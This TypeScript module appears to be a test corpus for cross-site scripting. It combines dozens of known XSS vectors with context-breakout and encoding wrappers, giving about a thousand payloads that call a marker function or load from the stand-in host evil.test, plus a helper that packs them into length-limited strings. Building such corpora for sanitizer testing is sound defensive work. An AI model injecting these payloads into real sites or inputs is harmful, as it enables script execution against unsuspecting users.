/*
 * Ways from text to script that are publicly known, each calling `ran`. `@` is the number of the payload: a call, or a request
 * to its address, says which it was.
 */
const VECTORS = [
  '<script>ran(@)</script>',
  '<ScRiPt>ran(@)</sCrIpT>',
  '<script src=//evil.test/@.js></script>',
  '<script type=module>import "//evil.test/@.js"</script>',
  '<img src=x onerror=ran(@)>',
  '<img src=//evil.test/@.png>',
  '<img src=`x` onerror="ran(@)"//>',
  '<img/src/onerror=ran(@)>',
  '<svg onload=ran(@)>',
  '<svg/onload=ran(@)//',
  '<svg><script>ran(@)</script></svg>',
  '<svg><animate onbegin=ran(@) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:ran(@) /><a>x</a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=ran(@)>#x"></svg>',
  '<math><a xlink:href="javascript:ran(@)">x</a></math>',
  '<math><mi><style><img src=x onerror=ran(@)></style></mi></math>',
  '<iframe src=javascript:parent.ran(@)></iframe>',
  '<iframe srcdoc="<script>parent.ran(@)</script>"></iframe>',
  '<object data=javascript:ran(@)></object>',
  '<embed src=//evil.test/@.svg>',
  '<body onload=ran(@)>',
  '<body onpageshow=ran(@)>',
  '<details open ontoggle=ran(@)><summary>x</summary></details>',
  '<input autofocus onfocus=ran(@)>',
  '<select autofocus onfocus=ran(@)></select>',
  '<video><source onerror=ran(@)></video>',
  '<audio src=x onerror=ran(@)></audio>',
  '<marquee onstart=ran(@)>x</marquee>',
  '<div onpointerover=ran(@)>x</div>',
  '<style>@import "//evil.test/@.css"</style>',
  '<p style=animation-name:x onanimationstart=ran(@)>',
  '<link rel=stylesheet href=//evil.test/@.css>',
  '<base href=//evil.test/@/>',
  '<meta http-equiv=refresh content="0;url=javascript:ran(@)">',
  '<form action=javascript:ran(@)><button>x</button></form>',
  '<a href=javascript:ran(@) autofocus>x</a>',
  '<template><img src=x onerror=ran(@)></template>',
  'javascript:ran(@)',
  'data:text/html,<script>parent.ran(@)</script>',
  '{{constructor.constructor("ran(@)")()}}',
  '${ran(@)}',
]

/** What a text may be put into, and have to break out of. */
const CONTEXTS: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `" autofocus onfocus="ran(@)" x="${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `</noscript>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `]]>${vector}`,
  (vector) => `\\";ran(@);//${vector}`,
  (vector) => `';ran(@);'${vector}`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '&#60;').replaceAll('(', '&#40;'),
  (vector) => vector.replaceAll('<', '\\u003c'),
  (vector) => encodeURIComponent(vector),
  (vector) => vector.replaceAll(' ', '\t'),
  (vector) => vector.replaceAll(' ', '/'),
  (vector) => vector.toUpperCase().replaceAll('RAN(', 'ran('),
  (vector) => vector.replaceAll('<', '＜'),
  (vector) => `{"__html":"${vector}"}`,
  (vector) => `[x](${vector})`,
  (vector) => `=HYPERLINK("${vector}")`,
  (vector) => `\u202e${vector}`,
]

/** Every vector in every context: a thousand texts, each with a number of its own. */
export const PAYLOADS = CONTEXTS.flatMap((into) => VECTORS.map(into)).map((text, number) =>
  text.replaceAll('@import', '\u0001').replaceAll('@', String(number)).replaceAll('\u0001', '@import'),
)

/** The payloads in as few texts as they fit into, each whole. */
export function packed(maxLength: number, payloads = PAYLOADS): string[] {
  const texts = ['']
  for (const payload of payloads) {
    const longer = `${texts[texts.length - 1]} ${payload}`.trim()
    if (longer.length <= maxLength) texts[texts.length - 1] = longer
    else texts.push(payload)
  }
  return texts
}
